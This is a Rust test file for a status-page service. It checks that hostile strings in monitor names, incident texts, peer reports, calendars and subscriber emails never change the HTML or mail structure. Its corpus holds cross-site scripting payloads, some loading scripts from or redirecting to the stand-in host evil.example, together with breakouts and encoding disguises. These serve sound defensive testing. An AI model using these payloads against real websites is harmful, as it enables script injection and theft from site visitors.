//! Texts of the watched world and of the config are text on every page and nothing else: whatever they say, a page has the same
//! elements with the same attributes as with harmless texts.

use std::collections::BTreeSet;
use std::sync::Arc;
use std::time::Duration;

use crate::engine::snapshot::HeartbeatView;
use crate::engine::snapshot::Ignored;
use crate::engine::snapshot::NodeView;
use crate::engine::snapshot::Snapshot;
use crate::http::peer_views;
use crate::http::peer_views::LinkReport;
use crate::http::public::Bulletin;
use crate::http::subscriptions::messages;
use crate::http::subscriptions::messages::Addresses;
use crate::http::subscriptions::news;
use crate::http::tests::planned;
use crate::http::tests::regions::Nodes;
use crate::http::tests::regions::vote;
use crate::http::tests::world::NOON;
use crate::http::tests::world::World;
use crate::http::tests::world::cluster;
use crate::http::tests::world::config;
use crate::http::tests::world::entry;
use crate::http::tests::world::heartbeat;
use crate::http::tests::world::monitor;
use crate::http::tests::world::node;
use crate::http::tests::world::page;
use crate::http::tests::world::rules;
use crate::http::tests::world::snapshot;
use crate::http::tests::world::view;
use crate::model::channel::spec::EmailSpec;
use crate::model::channel::spec::MailTls;
use crate::model::channel::spec::Mailbox;
use crate::model::heartbeat::PingKind;
use crate::model::heartbeat::RunId;
use crate::model::id::ChannelName;
use crate::model::id::IncidentId;
use crate::model::id::NodeName;
use crate::model::id::PageSlug;
use crate::model::id::Region;
use crate::model::incident::Lane;
use crate::model::maintenance::Selection;
use crate::model::monitor::Monitor;
use crate::model::net::HostPort;
use crate::model::page::Announcement;
use crate::model::page::AnnouncementKind;
use crate::model::page::Language;
use crate::model::page::PageGroup;
use crate::model::page::StatusPage;
use crate::model::page::Visibility;
use crate::model::ping::Arrival;
use crate::model::ping::Meaning;
use crate::model::policy::Silence;
use crate::model::policy::SilenceId;
use crate::model::result::Failure;
use crate::model::result::Transcript;
use crate::model::subscription::Subscriber;
use crate::model::subscription::SubscriberWay;
use crate::model::update::Announced;
use crate::model::update::AnnouncementId;
use crate::model::update::AnnouncementTexts;
use crate::model::update::IncidentTexts;
use crate::model::update::Posted;
use crate::model::update::Postmortem;
use crate::model::update::Texts;
use crate::model::update::Update;
use crate::model::update::UpdateId;
use crate::model::update::UpdateKind;
use crate::model::update::UpdateState;
use crate::model::verdict::OpinionState;
use crate::notifier::letter::Letter;
use crate::peer::port::Dialer;
use crate::peer::port::LinkState;
use crate::peer::port::LinkView;
use crate::peer::port::RefusedLink;
use crate::store::Answered;
use crate::store::AnsweredBy;
use crate::store::Attempt;
use crate::store::AttemptOutcome;
use crate::store::Delivery;
use crate::store::DeliveryState;
use crate::store::Errand;
use crate::ui::component::maintenance::WindowView;
use crate::ui::component::updates::UpdateView;
use crate::ui::language::phrases;
use crate::ui::layout::Frame;
use crate::ui::links::Links;
use crate::ui::page::peers;
use crate::ui::page::status::PublicIncident;
use crate::ui::page::status::calendar;
use crate::ui::page::status::calendar::Calendar;
use crate::ui::page::subscribe::Around;
use crate::ui::page::subscribe::Look;
use crate::ui::page::subscribe::SignUpView;

/// How many strings are on one set of pages.
const BATCH: usize = 24;

/// The elements of a page: name and names of the attributes, in order. A tokenizer as browsers have it, as far as pages without
/// inline scripts need one.
fn elements(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    let mut rest = html;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let is_tag = rest.starts_with(|c: char| c.is_ascii_alphabetic());
        if !is_tag {
            // Browsers take these for comments, which hide what follows; only the doctype is ours.
            if rest.starts_with(['!', '?']) && !rest.starts_with("!DOCTYPE html>") {
                found.push("comment".to_owned());
            }
            continue;
        }
        let mut element = String::new();
        let mut quote = None;
        let mut end = rest.len();
        for (i, c) in rest.char_indices() {
            match (quote, c) {
                (Some(open), c) if c == open => quote = None,
                (Some(_), _) => {}
                (None, '"' | '\'') => quote = Some(c),
                (None, '>') => {
                    end = i;
                    break;
                }
                (None, c) => element.push(c),
            }
        }
        found.push(element);
        rest = &rest[end..];
    }
    found
}

/// At least a thousand strings: markup that breaks out of text, attributes, comments and raw-text elements, each in disguises.
fn corpus() -> Vec<String> {
    let breakouts = [
        "",
        "\"",
        "'",
        "\">",
        "'>",
        "`",
        "-->",
        "]]>",
        "</title>",
        "</style>",
        "</script>",
        "</pre>",
        "</textarea>",
        "\\\"",
        "&quot;>",
        "<!--",
    ];
    let payloads = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<b onmouseover=alert(1)>x</b>",
        " onfocus=alert(1) autofocus x=",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<a href=javascript:alert(1)>x</a>",
        "javascript:alert(1)//",
        "<form action=//evil.example><input name=form>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<base href=//evil.example>",
        "<![CDATA[<b>]]>",
        "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
        "&lt;script&gt;&#x3c;script&#x3e;&amp;lt;",
        "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    ];
    let disguises: [fn(&str) -> String; 4] = [
        |text| text.to_owned(),
        |text| text.replace("script", "scr\u{0}ipt").replace('<', "<\u{0}"),
        |text| format!("\u{202e}{text}\u{2066}\u{feff}\u{85}\u{9f}\u{1b}[31m\r\n\t{text}\u{2028}"),
        |text| text.to_ascii_uppercase().replace(' ', "\u{c}/"),
    ];
    let mut all: Vec<String> = Vec::new();
    for breakout in breakouts {
        for payload in payloads {
            all.extend(disguises.map(|disguise| disguise(&format!("{breakout}{payload}"))));
        }
    }
    all.push("<".repeat(20_000));
    all.push("\"><script>".repeat(3_000));
    all.push("\u{0}".repeat(5_000));
    all.push("\u{202e}\u{301}".repeat(5_000));
    // Not every disguise changes every payload; two groups of one name would be one entry of a menu.
    let mut seen = BTreeSet::new();
    all.retain(|text| seen.insert(text.clone()));
    all
}

/// A message whose every text is this one.
fn delivery(text: &str) -> Delivery {
    let attempt = Attempt {
        at: NOON,
        took: Duration::from_secs(1),
        outcome: AttemptOutcome::Failed,
        reason: Some(text.to_owned()),
        answer: Some(Answered { by: AnsweredBy::Http, code: 500, said: text.to_owned() }),
        called: None,
        is_unanswered: false,
    };
    Delivery {
        id: 1,
        about: text.to_owned(),
        attempts: vec![(1, attempt)],
        key: text.to_owned(),
        channel: ChannelName::parse("mail").unwrap(),
        event: text.to_owned(),
        incident: None,
        at: NOON,
        n_attempts: 2,
        state: DeliveryState::Waiting(NOON),
        last_error: Some(text.to_owned()),
        behind: None,
        called: None,
    }
}

/// A world in which every place for text holds one of `texts`.
async fn with_texts(texts: &[String]) -> World {
    let mut views = Vec::new();
    for (i, text) in texts.iter().enumerate() {
        let mut monitor = monitor(&format!("m{i}"), "db");
        (monitor.name, monitor.group) = (text.clone(), Some(text.clone()));
        // Not a link by itself, or it would rightly become one.
        monitor.runbook = Some(format!("see {text}"));
        monitor.labels.insert(text.clone(), text.clone());
        let mut view = view(monitor, Some(Failure::Body { detail: text.clone() }));
        view.incidents.iter_mut().for_each(|incident| incident.evidence = vec![text.clone(), text.clone()]);
        if let Some(last) = view.last.as_mut().map(Arc::make_mut) {
            last.transcript = Transcript { lines: vec![text.clone()], n_dropped: 1 };
        }
        view.votes = vec![
            vote("eu", OpinionState::Up, None, None),
            vote("us", OpinionState::Down, None, Some(text)),
            vote("home", OpinionState::Down, None, Some(text)),
        ];
        views.push(view);
    }
    let mut beat = heartbeat("beat", rules(), &[(7200, PingKind::Start, Some("run 1")), (60, PingKind::Success, None)]);
    beat.monitor = Arc::new(Monitor { name: texts[0].clone(), ..beat.monitor.as_ref().clone() });
    beat.heartbeat = beat.heartbeat.map(|beat| Arc::new(HeartbeatView { hint: Some(texts[0].clone()), ..beat.as_ref().clone() }));
    views.push(beat);
    let watched = snapshot(config(), views);
    let mut world = World::new(watched).await;
    // What other nodes tell is a text like any other; each of them tells one.
    world.has_colleagues(Arc::new(Nodes(texts[0].clone())));
    world.show(|snapshot| publish(snapshot, texts));
    let nodes = texts.iter().enumerate().map(|(i, text)| {
        let mut node = node(&format!("n{i}"), Some(Ignored::Abstains));
        node.abstains = Some(text.clone());
        if let Some(meta) = &mut node.meta {
            (meta.version, meta.config_digest) = (text.clone(), text.clone());
        }
        node
    });
    let voters = ["eu", "us", "home"].map(|name| NodeView {
        region: Region::parse(name).unwrap(),
        is_me: name == "eu",
        ..node(&format!("n-{name}"), None)
    });
    let nodes = voters.into_iter().chain(nodes).collect();
    world.show(|snapshot| snapshot.cluster = Some(Arc::new(cluster(nodes))));
    let incidents = world.engine.snapshot().monitors.values().flat_map(|view| view.incidents.clone()).collect();
    *world.shelf.incidents.lock().unwrap() = incidents;
    *world.shelf.deliveries.lock().unwrap() = texts.iter().map(|text| delivery(text)).collect();
    // What jobs send: what their clients call themselves, and bodies with and without a kept end.
    let sent = |(i, text): (usize, &String)| {
        let mut entry = entry("beat", u64::try_from(i).unwrap() + 1, text.as_bytes());
        entry.body_bytes += u64::try_from(i % 2).unwrap();
        entry.meaning = Meaning::ALL[i % Meaning::ALL.len()];
        entry.run = RunId::text(&format!("run {i}")).ok();
        let arrival = Arrival { agent: Some(text.clone()), method: "POST".to_owned(), address: None };
        (entry.arrival, entry.is_repeat) = ((i % 3 > 0).then_some(arrival), i % 5 == 0);
        entry
    };
    *world.shelf.pings.lock().unwrap() = texts.iter().enumerate().map(sent).collect();
    world.read_history().await;
    world
}

fn publish(snapshot: &mut Snapshot, texts: &[String]) {
    let mut config = snapshot.config.as_ref().clone();
    for (i, text) in texts.iter().enumerate() {
        let id = format!("m{i}");
        let mut page = page(&id, Visibility::Public, &[&id]);
        (page.title, page.show.errors, page.show.targets, page.show.regions) = (text.clone(), true, true, true);
        page.groups = page.groups.into_iter().map(|group| PageGroup { name: text.clone(), ..group }).collect();
        page.announcements = vec![Announcement { at: NOON, kind: AnnouncementKind::Info, text: text.clone() }];
        config.pages.push(Arc::new(page));
    }
    config.maintenance = texts.iter().enumerate().map(|(i, text)| planned::once(text, &[&format!("m{i}"), "beat"], 5, 6)).collect();
    snapshot.config = Arc::new(config);
    let silence = |(i, text): (usize, &String)| {
        let wanted = Selection { labels: [("team".to_owned(), text.clone())].into(), ..Selection::default() };
        let until = NOON + Duration::from_secs(3600);
        (SilenceId::parse(&format!("s{i:07}")).unwrap(), Silence { wanted, from: NOON, until, by: text.clone(), note: text.clone() })
    };
    snapshot.silences = texts.iter().enumerate().map(silence).collect();
    snapshot.texts = Arc::new(written(texts));
}

/// Titles and names of people are texts, too. What they say is Markdown, which has a corpus of its own.
fn written(texts: &[String]) -> Texts {
    let mut all = Texts::default();
    for (i, text) in texts.iter().enumerate() {
        let kind = UpdateKind::State { state: UpdateState::Identified, is_public: true };
        let posted = Posted {
            id: UpdateId::parse(&format!("u{i:07}")).unwrap(),
            update: Update { kind, text: "*said*".to_owned(), by: text.clone(), at: NOON },
        };
        let announced = Announced {
            title: text.clone(),
            wanted: Selection { labels: [("team".to_owned(), text.clone())].into(), ..Selection::default() },
            pages: vec![format!("m{i}")],
            from: NOON,
            until: None,
            by: text.clone(),
            at: NOON,
        };
        let postmortem = Postmortem { text: "*learnt*".to_owned(), by: text.clone(), at: NOON, is_public: true };
        let about = IncidentTexts { updates: vec![posted.clone()], postmortem: Some(postmortem) };
        all.incidents.insert(IncidentId::from_derived(&format!("incm{i}")), about);
        let id = AnnouncementId::parse(&format!("a{i:07}")).unwrap();
        all.announcements.insert(id, AnnouncementTexts { announced, updates: vec![posted] });
    }
    all
}

/// Every page, with its path.
async fn pages(world: &World) -> Vec<(String, String)> {
    let cookie = world.sign_in().await;
    let mut paths: Vec<String> = [
        "/monitors",
        "/monitors/beat",
        "/heartbeats",
        "/incidents",
        "/silences",
        "/announcements",
        "/maintenance",
        "/channels",
        "/peers",
        "/config",
    ]
    .map(ToOwned::to_owned)
    .into();
    for i in 0..BATCH {
        paths.extend([
            format!("/monitors/m{i}"),
            format!("/incidents/incm{i}"),
            format!("/status/m{i}"),
            format!("/status/m{i}.atom"),
            format!("/status/m{i}/widget"),
            format!("/badge/m{i}/m{i}/status.svg"),
        ]);
    }
    let mut all = vec![("/sign-in".to_owned(), world.get("/sign-in", &[]).await.body)];
    for path in paths {
        let answer = world.get(&path, &[("cookie", &cookie)]).await;
        assert!(answer.status.is_success(), "{path}: {}", answer.status);
        all.push((path, answer.body));
    }
    all
}

#[test]
fn the_tokenizer_sees_what_a_browser_would() {
    assert_eq!(elements("<!DOCTYPE html><p class=\"a>b\" id=x>1 < 2 &lt;b&gt;</p>"), ["p class= id=x"]);
    assert_eq!(elements("<p title=\"\"><script>x</script>\">"), ["p title=", "script"]);
    assert_eq!(elements("<!-- x --><![CDATA["), ["comment", "comment"]);
}

#[tokio::test]
async fn texts_of_the_watched_world_are_text_and_nothing_else() {
    let mut corpus = corpus();
    assert!(corpus.len() >= 1000, "{}", corpus.len());
    while !corpus.len().is_multiple_of(BATCH) {
        corpus.push(format!("<script>{}", corpus.len()));
    }
    let benign: Vec<String> = (0..BATCH).map(|i| format!("benign {i}")).collect();
    let expected = pages(&with_texts(&benign).await).await;
    for texts in corpus.chunks(BATCH) {
        let world = with_texts(texts).await;
        for ((path, html), (_, harmless)) in pages(&world).await.iter().zip(&expected) {
            let shown = texts.iter().map(|text| text.chars().take(60).collect::<String>()).collect::<Vec<_>>();
            assert_eq!(elements(html), elements(harmless), "{path} with {shown:?}");
            let n_scripts = |html: &str| html.to_ascii_lowercase().matches("<script").count();
            assert_eq!(n_scripts(html), n_scripts(harmless), "{path} with {shown:?}");
        }
    }
}

/// A peers page on which everything that strangers and other nodes say of themselves is `text`.
fn peers_page(snapshot: &Snapshot, text: &str) -> String {
    let state = |is_up| {
        if is_up { LinkState::Up { since: NOON, is_dialed: true } } else { LinkState::Down { since: NOON, error: Some(text.to_owned()) } }
    };
    let link = |name: &str, is_up| LinkView {
        node: NodeName::parse(name).unwrap(),
        state: state(is_up),
        address: Some(text.to_owned()),
        round_trip: None,
        clock_offset_ms: None,
        n_bytes: (0, 0),
        dialer: Dialer::Here,
    };
    let refused =
        |node: &str| RefusedLink { at: NOON, node: Some(node.to_owned()), from: text.to_owned(), why: text.to_owned(), is_twin: true };
    let report = LinkReport { links: Arc::new(vec![link("b", true), link("c", false)]), refused: vec![refused("b"), refused(text)] };
    let frame = Frame {
        links: Links::new(""),
        now: NOON,
        user: "owner".to_owned(),
        may_operate: true,
        may_administer: true,
        form_token: "token".to_owned(),
        revision: String::new(),
        has_peers: true,
        has_heartbeats: true,
        banners: peer_views::banners(snapshot, &report, &Links::new("")),
    };
    peers::page(&frame, &peer_views::page(snapshot, &report).unwrap()).into_string()
}

#[test]
fn what_other_nodes_and_strangers_say_is_text_and_nothing_else() {
    let mut snapshot = snapshot(config(), Vec::new());
    let nodes = vec![node("a", None), node("b", None), node("c", Some(Ignored::Silent))];
    snapshot.cluster = Some(Arc::new(cluster(nodes)));
    let expected = elements(&peers_page(&snapshot, "benign"));
    for text in corpus() {
        let shown: String = text.chars().take(60).collect();
        assert_eq!(elements(&peers_page(&snapshot, &text)), expected, "{shown:?}");
    }
}

#[test]
fn calendars_have_the_lines_they_should_whatever_windows_are_called() {
    for text in corpus() {
        let window = WindowView {
            name: text.clone(),
            message: Some(text.clone()),
            from: NOON,
            to: NOON + Duration::from_secs(3600),
            is_open: false,
            services: vec![text.clone()],
        };
        let of = Calendar { title: &text, windows: &[window], now: NOON };
        let made = calendar::calendar(of, phrases(Language::English), &|_| "id".to_owned());
        assert!(made.split("\r\n").all(|line| line.len() <= 75 && !line.contains(char::is_control)), "{made:?}");
        let unfolded = made.replace("\r\n ", "");
        let names: Vec<&str> = unfolded.split("\r\n").filter_map(|line| line.split([':', ';']).next()).collect();
        let expected =
            "BEGIN VERSION PRODID NAME X-WR-CALNAME REFRESH-INTERVAL BEGIN UID DTSTAMP DTSTART DTEND SUMMARY DESCRIPTION TRANSP END END ";
        assert_eq!(names.join(" "), expected, "{made:?}");
    }
}

#[tokio::test]
async fn texts_are_text_in_every_language() {
    let corpus = corpus();
    let benign: Vec<String> = (0..BATCH).map(|i| format!("benign {i}")).collect();
    let (hostile, harmless) = (with_texts(&corpus[..BATCH]).await, with_texts(&benign).await);
    for language in Language::ALL {
        for i in 0..BATCH {
            let headers = [("accept-language", language.code())];
            let path = format!("/status/m{i}");
            let (page, expected) = (hostile.get(&path, &headers).await.body, harmless.get(&path, &headers).await.body);
            assert!(page.contains(&format!("lang=\"{}\"", language.code())));
            assert_eq!(elements(&page), elements(&expected), "{path} in {language:?}");
        }
    }
}

/// A letter about an incident and an update in which every text is this one, as it is handed over.
fn letter(text: &str, n_news: usize) -> String {
    let incident = PublicIncident {
        key: "k1".to_owned(),
        service: text.to_owned(),
        lane: Lane::Outage,
        opened_at: NOON,
        closed_at: None,
        cause: Some(text.to_owned()),
        diagnosis: None,
        regions: vec![text.to_owned()],
        updates: vec![UpdateView { state: UpdateState::Identified, text: text.to_owned(), at: NOON }],
        postmortem: None,
    };
    let news = news::of(&Bulletin { open: vec![incident], ..Bulletin::default() }, NOON);
    let to = Subscriber {
        id: 1,
        name: "name".to_owned(),
        page: PageSlug::parse("main").unwrap(),
        way: SubscriberWay::Mail,
        address: "jo@example.org".to_owned(),
        language: Language::English,
        asked_at: NOON,
        confirmed_at: Some(NOON),
        home: None,
    };
    let addresses = Addresses::new("https://status.example.com", &to.page, "token");
    let errand = Errand { to, news: news[..n_news].to_vec(), keys: Vec::new(), n_failed: 0, n_refused: 0 };
    let written = messages::letter(&StatusPage { title: text.to_owned(), ..page("main", Visibility::Public, &[]) }, &errand, &addresses);
    let unsubscribe = Some(addresses.subscription.as_str());
    let (subject, body) = (&written.subject, &written.text);
    let spec = EmailSpec {
        server: HostPort { host: "127.0.0.1".to_owned(), port: 25 },
        tls: MailTls::None,
        ca: None,
        credentials: None,
        from: Mailbox { name: None, address: "status@example.com".to_owned() },
        to: Vec::new(),
    };
    let mail = Letter { to: "jo@example.org", subject, text: body, unsubscribe, key: "key", at: NOON }.mail(&spec).unwrap();
    assert_eq!(mail.to, ["jo@example.org"]);
    mail.text
}

#[test]
fn letters_to_subscribers_have_the_fields_they_should_whatever_is_in_them() {
    let fields = |mail: &str| -> Vec<String> {
        let header = mail.split_once("\r\n\r\n").unwrap().0;
        let lines = header.split("\r\n").filter(|line| !line.starts_with([' ', '\t']));
        lines.map(|line| line.split(':').next().unwrap_or_default().to_owned()).collect()
    };
    let expected = fields(&letter("benign", 2));
    // Of one piece of news the subject names what it is about, of more of them the page.
    for (text, n_news) in corpus().into_iter().flat_map(|text| [(text.clone(), 1), (text, 2)]) {
        let mail = letter(&text, n_news);
        let shown: String = text.chars().take(60).collect();
        assert_eq!(fields(&mail), expected, "{shown:?}");
        assert!(mail.is_ascii() && mail.split("\r\n").all(|line| line.len() <= 998 && !line.contains(['\r', '\n'])), "{shown:?}");
    }
}

#[test]
fn pages_of_subscriptions_are_text_in_every_language() {
    let pages = |text: &str, language| {
        let links = Links::new("");
        let around = Around { links: &links, language, title: text, page: "/status/main", look: Look::default() };
        let view = SignUpView { action: "/x".to_owned(), mail: true, hook: true, complaint: Some("no"), typed: text.to_owned() };
        let all = [around.sign_up(&view), around.said(text, text), around.question(text, "/x", ("yes", "confirm"))];
        all.map(|page| elements(&page.into_string()))
    };
    for language in Language::ALL {
        let expected = pages("benign", language);
        for text in corpus() {
            assert_eq!(pages(&text, language), expected, "{language:?} {:?}", text.chars().take(60).collect::<String>());
        }
    }
}
